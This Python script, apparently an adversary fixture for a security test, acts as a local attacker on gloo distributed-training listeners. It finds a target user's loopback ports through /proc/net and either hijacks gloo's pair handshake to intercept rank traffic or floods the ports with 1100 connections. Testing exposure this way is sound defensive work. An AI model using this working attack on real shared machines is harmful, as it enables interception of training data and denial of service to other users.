"""Another local account's attack on a learner's gloo listeners (standard library only; run as ``nobody``).

argv: mode (``hijack`` or ``flood``), the learner's uid, the most seconds to keep watching (it stops sooner when a
line or the end arrives on stdin). It polls ``/proc/net/tcp`` and
``tcp6`` (every account may read them) for new listeners of the learner on the loopback, and on each one:

- ``hijack``: opens 4 connections that send gloo's pair handshake (``struct.pack("<Q", seq)``, seq 0-3) before
  the real peer can, and holds them, reading whatever the ranks send;
- ``flood``: connects ``FLOOD`` times, sends 8 bytes and closes (gloo keeps every unmatched socket open).

Prints one JSON line when done: the listeners it found, connections made, bytes it received.
"""

import json
import os
import select
import socket
import struct
import sys
import time

FLOOD = 1100


def listeners(uid: int) -> set:
    found = set()
    for name, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        try:
            with open(f"/proc/net/{name}") as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            local, state, owner = fields[1], fields[3], int(fields[7])
            host, port = local.split(":")
            if state == "0A" and owner == uid and host in ("0100007F", "00000000000000000000000001000000"):
                found.add((family, int(port, 16)))
    return found


def main() -> None:
    mode, uid, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    seen, held, made, received = set(), [], 0, 0
    address = {socket.AF_INET: "127.0.0.1", socket.AF_INET6: "::1"}
    end = time.monotonic() + seconds
    while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
        for family, port in listeners(uid) - seen:
            seen.add((family, port))
            for seq in range(4 if mode == "hijack" else FLOOD):
                try:
                    s = socket.socket(family, socket.SOCK_STREAM)
                    s.settimeout(1)
                    s.connect((address[family], port))
                    s.sendall(struct.pack("<Q", seq if mode == "hijack" else 0))
                    made += 1
                except OSError:
                    s.close()
                    continue
                if mode == "hijack":
                    s.setblocking(False)
                    held.append(s)
                else:
                    s.close()
        for s in held:
            try:
                received += len(s.recv(65536))
            except OSError:
                pass
        time.sleep(0.001)
    print(json.dumps({"uid": os.getuid(), "listeners": len(seen), "connections": made, "received": received}))


if __name__ == "__main__":
    main()
